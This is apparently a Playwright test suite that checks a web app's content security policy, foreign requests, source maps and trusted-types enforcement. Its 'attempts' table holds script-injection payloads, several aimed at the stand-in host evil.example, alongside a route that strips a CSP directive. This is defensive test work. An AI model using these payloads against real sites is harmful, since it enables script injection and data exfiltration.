import type { Page } from "playwright-core";
import { describe } from "vitest";
import { call, givenSignedInUser } from "../http/client.ts";
import { openPaths, ownPaths, shown, visitEach } from "./paths.ts";
import { submitPassword } from "./steps.ts";
import { story } from "./story.ts";
import { toast } from "./visitor.ts";

/** Opens every overlay of the dashboard: menu, dialogs, the confirmation before a loss, toasts, tooltips. */
async function openEverything(page: Page, password: string): Promise<void> {
  await page.goto("/dashboard");
  await page.getByRole("button", { name: /^Account menu/ }).click();
  await page.getByRole("menuitem", { name: "Log out" }).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Change", exact: true }).click();
  await submitPassword(page, { current: password, next: "short", confirmed: "short" });
  await toast(page, "Password too short").waitFor();
  await page.getByRole("button", { name: "Cancel" }).click();
  await page.getByRole("button", { name: "Manage active sessions" }).click();
  const sessions = page.getByRole("dialog", { name: "Active Sessions" });
  await sessions.locator("time").first().hover();
  await page.getByRole("tooltip").first().waitFor();
  await sessions.getByRole("button", { name: "Revoke all others" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Cancel" }).click();
  await sessions.getByRole("button", { name: "Done" }).click();
  await page.getByRole("button", { name: "Dismiss" }).click();
  await page.getByRole("button", { name: "Dark" }).click();
}

/** URLs of other hosts in the page, including those of link elements that have not loaded anything yet. */
const foreignIn = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [...document.querySelectorAll<HTMLElement>("[src], link[href]")]
      .map((element) => new URL(element.getAttribute("src") ?? element.getAttribute("href") ?? "", location.href))
      .filter(({ origin }) => origin !== location.origin)
      .map(({ href }) => href),
  );

/** The path if the file names a source map, or if one exists beside it; else nothing. */
async function sourceMapOf(url: string, path: string): Promise<string[]> {
  const [file, map] = [await call(url, `GET ${path}`), await call(url, `GET ${path}.map`)];
  const named = [file.headers.has("sourcemap"), file.headers.has("x-sourcemap"), /sourceMappingURL/.test(file.body)];
  return file.status === 200 && map.status === 404 && !named.includes(true) ? [] : [path];
}

async function openSheet(page: Page): Promise<void> {
  await page.setViewportSize({ width: 360, height: 700 });
  await page.goto("/about");
  await page.getByRole("button", { name: "Open menu" }).click();
  await page.getByRole("dialog", { name: "Menu" }).waitFor();
}

/** Lets scripts create trusted values, so that the browser gets as far as the other directives. */
const allowTrustedTypes = (page: Page): Promise<unknown> =>
  page.route("**/about", async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    await route.fulfill({
      response,
      headers: { ...headers, "content-security-policy": policy.replace("; trusted-types 'none'", "") },
    });
  });

/** What an injected text might try, by the violation that the browser then reports. */
const attempts: Record<string, string> = {
  "require-trusted-types-for trusted-types-sink Element innerHTML": "document.body.innerHTML = '<p>'",
  "require-trusted-types-for trusted-types-sink HTMLScriptElement text": "make('script', { text: 'executed = 1' })",
  "script-src-elem inline": "make('script', { text: trusted.createScript('executed = 1') })",
  "script-src-elem data": "make('script', { src: trusted.createScriptURL('data:text/javascript,executed=1') })",
  "script-src-elem https://evil.example/": "make('script', { src: trusted.createScriptURL('https://evil.example/') })",
  // Some versions check a handler when it is set, others when it is first called.
  "script-src-attr inline":
    "const p = make('p'); p.setAttribute('onclick', trusted.createScript('executed = 1')); p.click()",
  "script-src eval": "eval(trusted.createScript('executed = 1'))",
  "style-src-elem inline": "make('style', { textContent: 'p { color: red }' })",
  "frame-src https://evil.example": "make('iframe', { src: 'https://evil.example/' })",
  "object-src data": "make('object', { data: trusted.createScriptURL('data:text/html,executed') })",
  "base-uri https://evil.example/": "make('base', { href: 'https://evil.example/' })",
  "connect-src https://evil.example/": "fetch('https://evil.example/').catch(() => 0)",
  "form-action https://evil.example/": "make('form', { action: 'https://evil.example/' }).submit()",
  "worker-src data": "new window.Worker(trusted.createScriptURL('data:text/javascript,1'))",
  "media-src https://evil.example/": "make('video', { src: 'https://evil.example/' })",
};
const prepared = `
  const make = (name, said = {}) => {
    const element = Object.assign(document.createElement(name), said);
    document.body.append(element);
    return element;
  };
  const trusted = (globalThis.policy ??= trustedTypes.createPolicy("any", {
    createScript: (text) => text,
    createScriptURL: (text) => text,
  }));
`;

describe.concurrent("the pages' content security policy", () => {
  story(
    "FE-01 FE-12 is never violated, and no page requests another host or names a source map",
    async ({ visit, stack, expect }) => {
      const { token, email, password } = await givenSignedInUser(stack.url);
      await call(stack.url, "POST /api/auth/login", { body: { email, password } });
      const visitors = [await visit({ fresh: true }), await visit({ fresh: true, token })];
      const asked = new Set<string>();
      for (const { context } of visitors) context.on("request", (request) => asked.add(request.url()));
      for (const [at, { page }] of visitors.entries()) {
        await visitEach(page, at === 0 ? openPaths : ownPaths, async (path) => {
          expect(await foreignIn(page), path).toEqual([]);
        });
        await openSheet(page);
      }
      await visitors[1]?.page.setViewportSize({ width: 1280, height: 800 });
      await openEverything(visitors[1]?.page as Page, password);

      expect(visitors.flatMap(({ troubles }) => troubles.seen)).toEqual([]);
      for (const url of asked) expect(new URL(url).origin, url).toBe(stack.url);
      const files = [...asked].map((url) => new URL(url).pathname).filter((path) => /\.(?:js|css)$/.test(path));
      expect(files.filter((path) => path.endsWith(".js")).length).toBeGreaterThan(10);
      expect((await Promise.all(files.map((path) => sourceMapOf(stack.url, path)))).flat()).toEqual([]);
    },
  );

  story("FE-01 is enforced by the browser, and these stories detect a violation", async ({ visit, expect }) => {
    const { page, troubles } = await visit({ fresh: true });
    for (const line of ["console error: ", "foreign request: https://evil.example/", "no answer: "])
      troubles.expect(line);
    await allowTrustedTypes(page);
    await page.goto("/about");
    await shown(page);
    for (const [directive, attempt] of Object.entries(attempts)) {
      await page.evaluate(`(() => { ${prepared} try { ${attempt} } catch {} })()`);
      const reported = () => troubles.seen.filter((line) => line.startsWith("console error: policy violation: "));
      await expect.poll(() => reported().join("\n")).toContain(`violation: ${directive}`);
    }
    expect(await page.evaluate(() => "executed" in globalThis)).toBe(false);
    expect(new URL(page.url()).pathname).toBe("/about");
  });

  story("A10 FE-01 lets no script create a trusted types policy", async ({ visit, expect }) => {
    const { page, troubles } = await visit({ fresh: true });
    troubles.expect("console error: ");
    await page.goto("/about");
    await shown(page);
    for (const name of ["any", "default"]) {
      const attempt = `trustedTypes.createPolicy("${name}", { createHTML: (text) => text })`;
      expect(
        await page.evaluate(`(() => { try { ${attempt}; return "created" } catch (error) { return error.name } })()`),
      ).toBe("TypeError");
    }
    await expect
      .poll(() => troubles.seen.join("\n"))
      .toContain("policy violation: trusted-types trusted-types-policy any");
  });

  story("FE-12 detects a request to another host in these stories", async ({ visit, expect }) => {
    const { page, troubles } = await visit({ fresh: true });
    const url = "https://elsewhere.example/picture.png";
    for (const line of [`foreign request: ${url}`, "no answer: GET /picture.png"]) troubles.expect(line);
    await page.goto("/about");
    // Images may be loaded over https, so the policy allows this.
    await page.evaluate((src) => {
      document.body.append(Object.assign(new Image(), { src }));
    }, url);
    await expect.poll(() => troubles.left()).toEqual([]);
  });
});
